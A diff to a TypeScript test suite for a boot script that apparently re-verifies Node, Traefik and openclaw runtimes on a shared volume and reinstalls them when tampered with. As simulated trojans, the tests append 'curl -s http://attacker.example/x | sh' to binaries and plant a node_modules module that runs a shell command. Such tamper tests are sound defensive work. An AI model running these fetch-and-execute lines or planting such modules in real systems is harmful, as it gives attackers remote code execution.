@@ -45,7 +45,9 @@ describeSandbox("boot script in a sandbox: a volume prepared by another host", (
     const unit = fs.readFileSync(sb.host(`/etc/systemd/system/${x86.gatewayUnit}`), "utf8");
     expect(unit).toContain(`ExecStart=${x86.nodeBin} ${x86.openclawEntry} gateway run\n`);
     expect(runtimeListing(sb)).toEqual([".current", ".previous",
-      "node-v24.21.0-arm64", "node-v24.21.0-x86_64", "openclaw-2026.9.6-arm64", "openclaw-2026.9.6-x86_64", `traefik-v${T}-arm64`, `traefik-v${T}-x86_64`]);
+      "node-v24.21.0-arm64", "node-v24.21.0-x86_64", "openclaw-2026.9.6-arm64", "openclaw-2026.9.6-x86_64", `traefik-v${T}-arm64`, `traefik-v${T}-x86_64`,
+      // Each release's verified archive, kept next to its tree (re-checked at every boot).
+      "node-v24.21.0-linux-arm64.tar.xz", "node-v24.21.0-linux-x64.tar.xz", `traefik_v${T}_linux_amd64.tar.gz`, `traefik_v${T}_linux_arm64.tar.gz`].sort());
     expect(sb.lines("systemctl.log")).toContain("restart openclaw-gateway.service");
   });
 
@@ -58,9 +60,56 @@ describeSandbox("boot script in a sandbox: a volume prepared by another host", (
     fs.writeFileSync(sb.host(arm.runtimesCurrentList), `${previous.join("\n")}\n`);
     expect(sb.boot().status).toBe(0);
     expect(runtimeListing(sb)).toEqual([".current", ".previous", "node-v24.20.0-arm64", "node-v24.21.0-arm64",
-      "openclaw-2026.8.1-arm64", "openclaw-2026.9.6-arm64", "traefik-v3.5.0-arm64", `traefik-v${T}-arm64`]);
+      "openclaw-2026.8.1-arm64", "openclaw-2026.9.6-arm64", "traefik-v3.5.0-arm64", `traefik-v${T}-arm64`,
+      "node-v24.21.0-linux-arm64.tar.xz", `traefik_v${T}_linux_arm64.tar.gz`].sort());
     expect(fs.readFileSync(sb.host(arm.runtimesPreviousList), "utf8")).toBe(`${previous.join("\n")}\n`);
     expect(sb.bootLog()).toContain(`pruned ${arm.runtimeDir}/node-v22.0.0 (neither the current nor the previous runtime)`);
+  });
+
+  /** Issue 13, item 6: what a root attacker changed on the volume is undone by the next host's boot. */
+  test("a trojaned Node binary, Traefik binary and openclaw file on the volume are found and reinstalled at the next boot", () => {
+    sb = new BootSandbox(settings);
+    const first = sb.boot();
+    expect(first.status).toBe(0);
+    const original = (inside: string) => fs.readFileSync(sb.host(inside), "utf8");
+    const [node, traefik, entry] = [arm.nodeBin, arm.traefikBin, arm.openclawEntry].map(original);
+    const clean = sb.boot(); // a re-run on an untouched volume: the verification alone
+    expect(clean.status).toBe(0);
+    expect(sb.bootLog()).not.toContain("REINSTALLING");
+    for (const file of [arm.nodeBin, arm.traefikBin, arm.openclawEntry]) fs.appendFileSync(sb.host(file), "\ncurl -s http://attacker.example/x | sh\n");
+    fs.mkdirSync(sb.host(`${arm.dataMount}/node_modules/left-pad`), { recursive: true });
+    fs.writeFileSync(sb.host(`${arm.dataMount}/node_modules/left-pad/index.js`), "require('child_process').exec('id')\n");
+    sb.clearRecords();
+    const next = sb.boot();
+    expect(next.status).toBe(0);
+    const log = sb.bootLog();
+    expect(log).toContain("REINSTALLING Node.js 24.21.0 from its verified archive: the tree on the volume changed");
+    expect(log).toContain(`REINSTALLING Traefik ${T} from its verified archive: the tree on the volume changed`);
+    expect(log).toContain(`${arm.openclawPrefix}/lib differs from a fresh install of its lock`);
+    expect(log).toContain("REINSTALLING openclaw 2026.9.6 from its lock: the install on the volume is incomplete or changed");
+    expect(log).toContain(`REMOVED ${arm.dataMount}/node_modules: Node would resolve modules from it`);
+    expect([arm.nodeBin, arm.traefikBin, arm.openclawEntry].map(original)).toEqual([node, traefik, entry]);
+    expect(fs.existsSync(sb.host(`${arm.dataMount}/node_modules`))).toBe(false);
+    // Node and Traefik come back from their kept, re-verified archives: no download.
+    expect(sb.lines("downloads.log")).toEqual([]);
+    const after = sb.boot();
+    expect(after.status).toBe(0);
+    expect(sb.bootLog().split("==> start").at(-2)).not.toContain("REINSTALLING");
+    // eslint-disable-next-line no-console
+    console.log(`runtime re-verification (sandbox, fake runtimes): first boot ${first.ms.toFixed(0)} ms, untouched re-run ${clean.ms.toFixed(0)} ms, `
+      + `re-run with three trojans ${next.ms.toFixed(0)} ms`);
+  });
+
+  test("a changed archive on the volume (tampered with its tree) is downloaded again, checked against the pin", () => {
+    sb = new BootSandbox(settings);
+    expect(sb.boot().status).toBe(0);
+    fs.appendFileSync(sb.host(arm.nodeArchive), "x");
+    fs.appendFileSync(sb.host(arm.nodeBin), "\nevil\n");
+    sb.clearRecords();
+    expect(sb.boot().status).toBe(0);
+    expect(sb.bootLog()).toContain("REINSTALLING Node.js 24.21.0: its archive on the volume fails the check");
+    expect(sb.lines("downloads.log")).toEqual(["GET /node/v24.21.0/SHASUMS256.txt", "GET /node/v24.21.0/node-v24.21.0-linux-arm64.tar.xz"]);
+    expect(fs.readFileSync(sb.host(arm.nodeBin), "utf8")).not.toContain("evil");
   });
 
   test("acme.json planted as a symbolic link to a root-owned file: the link is removed, the target keeps its owner and mode", () => {
